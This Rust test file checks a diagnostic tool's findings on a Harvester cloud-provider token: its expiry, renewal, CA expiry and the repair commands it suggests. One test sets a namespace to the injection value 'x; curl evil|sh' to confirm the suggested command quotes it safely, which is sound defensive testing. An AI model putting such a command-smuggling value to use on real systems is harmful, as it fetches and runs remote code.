//! The credential for Harvester: how long it lasts, who renews it, and what makes it anew.

use cloud_config::expiry::Expiry;
use credential_rotation::{Renewal, SecretName, token::Claims};
use rstest::rstest;

use super::{super::*, NOW, answers, at, deny, failed, healthy, told};
use crate::doctor::facts::{Config, Trouble};

/// A token of account `demo` that was given a life of so many hours, of which some are left.
fn claims(life: i64, left: i64) -> Claims {
    let ends = at(NOW) + jiff::SignedDuration::from_hours(left);
    let issued = ends - jiff::SignedDuration::from_hours(life);
    let bound_to = Some("demo-credentials".to_owned());
    Claims { namespace: "team-a".to_owned(), account: "demo".to_owned(), issued, ends: Some(ends), bound_to }
}

fn lasts(config: &mut Config, life: i64, left: i64) {
    let claims = claims(life, left);
    config.expiry = claims.ends.map_or(Expiry::Never, Expiry::At);
    config.claims = Some(claims);
}

fn line(facts: &Facts, id: &str) -> Finding {
    decide(facts, Occasion::Daily).into_iter().find(|finding| finding.id == id).unwrap()
}

// the life of the token and what is left, in hours; whether a release renews it
#[rstest]
#[case::a_day_that_is_renewed(
    24,
    10,
    true,
    Verdict::Green,
    "renewed by the leader that writes Secret kube-system/rotated"
)]
#[case::a_day_that_nobody_renews(24, 10, false, Verdict::Amber, "in 0 days")]
#[case::late(24, 5, true, Verdict::Amber, "is late to renew it")]
#[case::a_month_that_is_late(720, 160, true, Verdict::Amber, "is late to renew it")]
#[case::a_month(720, 240, true, Verdict::Green, "it ends at")]
#[case::over(24, -1, true, Verdict::Red, "it ended at")]
fn an_end_within_a_week_is_amber_only_where_nobody_renews_the_token_in_time(
    #[case] life: i64,
    #[case] left: i64,
    #[case] is_renewed: bool,
    #[case] verdict: Verdict,
    #[case] words: &str,
) {
    let mut facts = healthy();
    let config = facts.config.as_mut().unwrap();
    lasts(config, life, left);
    config.renewal = is_renewed.then(|| Renewal {
        claims: claims(life, left),
        secret: SecretName::read("kube-system/rotated").unwrap(),
    });
    let found = line(&facts, "credential-life");
    assert_eq!(found.verdict, verdict, "{found:?}");
    assert!(found.sentence.contains(words), "{found:?}");
    assert_eq!(found.mend.is_some(), verdict != Verdict::Green, "{found:?}");
}

/// The Event is of the leader's Pod, which runs where the release keeps the Secret.
#[test]
fn the_events_of_a_late_renewal_are_looked_for_where_the_release_is() {
    let mut facts = healthy();
    let config = facts.config.as_mut().unwrap();
    lasts(config, 24, 5);
    config.renewal = Some(Renewal {
        claims: claims(24, 5),
        secret: SecretName::read("harvester/harvester-cloud-provider-rotated").unwrap(),
    });
    let mend = line(&facts, "credential-life").mend.unwrap();
    assert!(mend.starts_with("`kubectl --namespace harvester get events "), "{mend}");
}

#[test]
fn the_lines_about_the_cloud_config_and_its_life_say_which_token_is_used() {
    let mut facts = healthy();
    facts.config.as_mut().unwrap().note = Some("Secret x/y has a newer token".to_owned());
    for id in ["cloud-config", "credential-life"] {
        let found = line(&facts, id);
        assert!(found.sentence.ends_with("; Secret x/y has a newer token"), "{found:?}");
    }
}

#[test]
fn what_makes_a_cloud_config_anew_is_a_command_that_can_be_typed() {
    let ended = told(|facts| lasts(facts.config.as_mut().unwrap(), 720, -1));
    assert_eq!(ended[0], ("credential-life", Verdict::Red));
    let mut facts = healthy();
    lasts(facts.config.as_mut().unwrap(), 720, -1);
    let typed = "harvester-cloud-provider cloud-config generate --format kubeconfig --rotate demo team-a > new-cloud-config)`";
    let mend = line(&facts, "credential-life").mend.unwrap();
    assert!(mend.contains(typed) && mend.contains("`(umask 077; "), "{mend}");
    // somebody else may have written the file
    facts.config.as_mut().unwrap().namespace = "x; curl evil|sh".to_owned();
    let mend = line(&facts, "credential-life").mend.unwrap();
    assert!(mend.contains("demo 'x; curl evil|sh' >"), "{mend}");
    let mut facts = healthy();
    answers(
        &mut facts.harvester,
        &read::balancers("team-a"),
        Err(failed(Trouble::Unauthorized, "Unauthorized")),
    );
    let mend = line(&facts, "harvester-login").mend.unwrap();
    assert!(
        mend.contains("cloud-config generate --format kubeconfig ACCOUNT team-a > new-cloud-config)`"),
        "{mend}"
    );
}

/// The shell empties the file before the program starts, and it may be the only copy.
#[test]
fn no_next_step_writes_over_the_cloud_config_in_use() {
    let mut ended = healthy();
    lasts(ended.config.as_mut().unwrap(), 720, -1);
    let mut denied = healthy();
    deny(&mut denied, "create", "loadbalancers");
    let mut unread = healthy();
    unread.config = Err("no such file".to_owned());
    let all = [ended, denied, unread]
        .map(|facts| [Occasion::Daily, Occasion::BeforeRollback].map(|occasion| decide(&facts, occasion)));
    let mends: Vec<_> = all.into_iter().flatten().flatten().filter_map(|finding| finding.mend).collect();
    assert!(mends.iter().filter(|mend| mend.contains("> ")).count() >= 4, "{mends:#?}");
    assert!(mends.iter().all(|mend| !mend.contains("> cloud-config")), "{mends:#?}");
}

/// The token stays that of the account: what is bound there is for another account of its name.
#[test]
fn no_next_step_binds_rights_in_a_namespace_that_is_not_the_accounts() {
    let mut facts = healthy();
    let config = facts.config.as_mut().unwrap();
    lasts(config, 720, 600);
    config.claims.as_mut().unwrap().namespace = "vms".to_owned();
    deny(&mut facts, "create", "loadbalancers");
    let mend = line(&facts, "rights-load-balancers").mend.unwrap();
    assert!(mend.contains("account demo is of namespace vms: set `namespace: vms`"), "{mend}");
    assert!(!mend.contains("generate"), "{mend}");
}

#[rstest]
#[case::over(&["2021-01-01T00:00:00Z"], Some("ended at 2021-01-01T00:00:00Z"))]
#[case::within_a_week(&["2026-11-25T12:00:00Z"], Some("ends at 2026-11-25T12:00:00Z"))]
#[case::all_of_them(&["2021-01-01T00:00:00Z", "2026-11-25T12:00:00Z"], Some("ends at 2026-11-25T12:00:00Z"))]
#[case::beside_one_that_lasts(&["2021-01-01T00:00:00Z", "2036-01-01T00:00:00Z"], None)]
#[case::of_the_system(&[], None)]
fn an_authority_that_go_refuses_is_amber_and_red_before_the_go_programs_come_back(
    #[case] ends: &[&str],
    #[case] words: Option<&str>,
) {
    let mut facts = healthy();
    facts.config.as_mut().unwrap().authorities = ends.iter().map(|end| Expiry::At(at(end))).collect();
    let found = line(&facts, "harvester-ca");
    assert_eq!(found.verdict, if words.is_some() { Verdict::Amber } else { Verdict::Green }, "{found:?}");
    assert!(words.is_none_or(|words| found.sentence.contains(words)), "{found:?}");
    let findings = decide(&facts, Occasion::BeforeRollback);
    let back = findings.iter().find(|finding| finding.id == "way-back-credential").unwrap();
    assert_eq!(back.verdict, if words.is_some() { Verdict::Red } else { Verdict::Green }, "{back:?}");
}

/// A cloud-config that is made anew has the same authority, and the server the same certificate.
#[test]
fn of_a_server_whose_own_certificate_has_ended_no_new_cloud_config_is_asked_for() {
    let mut facts = healthy();
    let why = "invalid peer certificate: certificate expired: not valid after 1609459200";
    let strange = failed(Trouble::Certificate, why);
    facts.harvester.answers.values_mut().for_each(|answer| *answer = Err(strange.clone()));
    let found = line(&facts, "harvester-ca");
    assert!(found.verdict == Verdict::Red && !found.mend.as_ref().unwrap().contains("generate"), "{found:?}");
}
